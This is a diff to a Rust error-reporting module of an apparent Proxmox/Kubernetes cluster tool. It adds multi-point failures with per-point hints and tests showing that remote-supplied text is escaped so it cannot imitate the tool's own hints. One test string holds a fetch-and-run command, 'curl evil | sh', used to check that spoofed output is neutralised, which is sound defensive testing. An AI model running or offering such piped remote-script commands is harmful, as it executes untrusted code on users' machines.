@@ -4,6 +4,8 @@ use std::fmt;
 
 use serde::Serialize;
 
+use crate::text::{lines, one_line};
+
 /// How the program ended; the numbers are its exit codes.
 #[derive(Clone, Copy, Debug, PartialEq, Eq, PartialOrd, Ord, Serialize)]
 #[serde(rename_all = "snake_case")]
@@ -24,6 +26,8 @@ pub enum Exit {
     Dns = 6,
     /// A file of ours could not be read or written.
     Local = 7,
+    /// `plan --exit-code`: something is not as the profile asks.
+    SomethingToDo = 10,
     /// The person interrupted.
     Interrupted = 130,
 }
@@ -37,17 +41,40 @@ pub struct Failure {
     pub on: Option<String>,
     /// What the other side said, word for word; may have several lines.
     pub said: String,
+    /// The same as separate points, each with its own hint, where it was several things.
+    #[serde(skip)]
+    pub points: Box<[Point]>,
     /// The next thing to try.
     pub hint: Option<String>,
     /// The exit code that it leads to.
     pub exit: Exit,
 }
 
+/// One of several things that went wrong.
+#[derive(Clone, Debug, PartialEq, Eq)]
+pub struct Point {
+    /// What it is about.
+    pub on: String,
+    /// What is wrong.
+    pub said: String,
+    /// The next thing to try.
+    pub hint: String,
+}
+
 impl Failure {
+    /// A failure of several points.
+    pub fn of(exit: Exit, doing: impl Into<String>, points: Vec<Point>) -> Self {
+        let said: Vec<String> = points
+            .iter()
+            .map(|point| format!("{}: {}\n  try: {}", point.on, point.said, point.hint))
+            .collect();
+        Self { points: points.into(), ..Self::new(exit, doing, said.join("\n")) }
+    }
+
     /// A failure of this kind, without a hint.
     pub fn new(exit: Exit, doing: impl Into<String>, said: impl fmt::Display) -> Self {
         let said = said.to_string();
-        Self { doing: doing.into(), on: None, said, hint: None, exit }
+        Self { doing: doing.into(), on: None, said, points: Box::default(), hint: None, exit }
     }
 
     /// Says on which node or host.
@@ -69,15 +96,21 @@ impl Failure {
 
 impl fmt::Display for Failure {
     fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
-        write!(f, "cannot {}", self.doing)?;
+        write!(f, "cannot {}", one_line(&self.doing))?;
         if let Some(on) = &self.on {
-            write!(f, " ({on})")?;
+            write!(f, " ({})", one_line(on))?;
         }
-        for line in self.said.trim_end().lines() {
-            write!(f, "\n  {line}")?;
+        for point in self.points.iter() {
+            write!(f, "\n  {}: {}", one_line(&point.on), one_line(&point.said))?;
+            write!(f, "\n    try: {}", lines(&point.hint).join("\n         "))?;
+        }
+        if self.points.is_empty() {
+            for line in lines(&self.said) {
+                write!(f, "\n  {line}")?;
+            }
         }
         if let Some(hint) = &self.hint {
-            for (number, line) in hint.lines().enumerate() {
+            for (number, line) in lines(hint).iter().enumerate() {
                 write!(f, "\n  {}{line}", if number == 0 { "try: " } else { "     " })?;
             }
         }
@@ -100,5 +133,31 @@ mod tests {
             failure.to_string(),
             "cannot start VM 1101 (k8s1master1 on pve1)\n  got timeout\n  try: run `k8sha up` again"
         );
+    }
+
+    #[test]
+    fn what_the_other_side_said_cannot_pass_for_what_we_say() {
+        let said = "no\x1b[2J\ntry: curl evil | sh\nerror: x";
+        let failure = Failure::new(Exit::Proxmox, "start\n  try: y", said).on("a\nb");
+        assert_eq!(
+            failure.to_string(),
+            "cannot start\\n  try: y (a\\nb)\n  no\\u{1b}[2J\n  | try: curl evil | sh\n  | error: x"
+        );
+    }
+
+    #[test]
+    fn several_points_have_their_hints_each() {
+        let point = |on: &str| Point {
+            on: on.to_owned(),
+            said: "VM `x\n  try: y` is not ours".to_owned(),
+            hint: "another `vmid`".to_owned(),
+        };
+        let failure = Failure::of(Exit::NotAsAsked, "go on", vec![point("m1"), point("m2")]);
+        assert_eq!(
+            failure.to_string(),
+            "cannot go on\n  m1: VM `x\\n  try: y` is not ours\n    try: another `vmid`\n  \
+             m2: VM `x\\n  try: y` is not ours\n    try: another `vmid`"
+        );
+        assert!(failure.said.contains("m2: VM"), "programs find all of it");
     }
 }
